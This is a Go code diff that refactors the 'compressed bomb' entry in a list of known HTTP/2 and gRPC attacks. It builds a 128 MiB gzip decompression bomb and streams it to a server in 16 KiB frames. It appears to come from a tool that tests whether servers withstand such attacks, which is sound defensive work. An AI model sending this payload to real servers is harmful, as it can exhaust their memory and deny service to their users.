@@ -5,6 +5,7 @@ import (
 	"compress/gzip"
 	"encoding/binary"
 	"strings"
+	"sync"
 	"time"
 
 	"golang.org/x/net/http2"
@@ -25,17 +26,17 @@ func message(b []byte, compressed bool) []byte {
 	return append(head, b...)
 }
 
-// bomb is a compressed message of 256 MiB of zeros, 255 KiB as it is sent.
-func bomb() []byte {
+// bomb is a compressed message of 128 MiB of zeros.
+var bomb = sync.OnceValue(func() []byte {
 	var b bytes.Buffer
 	w := gzip.NewWriter(&b)
 	zeros := make([]byte, 1<<20)
-	for range 256 {
+	for range 128 {
 		w.Write(zeros)
 	}
 	w.Close()
 	return message(b.Bytes(), true)
-}
+})
 
 // attacks are the known ones on HTTP/2 and gRPC, with the CVE that made each
 // known where there is one.
@@ -175,24 +176,21 @@ var attacks = []attack{
 	},
 	{
 		name: "compressed bomb",
-		step: func() func(*attacker) {
-			b := bomb()
-			return func(a *attacker) {
-				before := a.answers.Load()
-				id := a.open(a.request(emptyCall, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"}), false)
-				for p := b; len(p) > 0; {
-					n := min(len(p), 16<<10)
-					a.WriteData(id, n == len(p), p[:n])
-					p = p[n:]
-				}
-				if a.w.Flush() != nil {
-					return
-				}
-				for end := time.Now().Add(5 * time.Second); a.answers.Load() == before && time.Now().Before(end); {
-					time.Sleep(time.Millisecond)
-				}
+		step: func(a *attacker) {
+			before := a.answers.Load()
+			id := a.open(a.request(emptyCall, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"}), false)
+			for p := bomb(); len(p) > 0; {
+				n := min(len(p), 16<<10)
+				a.WriteData(id, n == len(p), p[:n])
+				p = p[n:]
 			}
-		}(),
+			if a.w.Flush() != nil {
+				return
+			}
+			for end := time.Now().Add(5 * time.Second); a.answers.Load() == before && time.Now().Before(end); {
+				time.Sleep(time.Millisecond)
+			}
+		},
 	},
 	{
 		name: "messages announced and never sent",
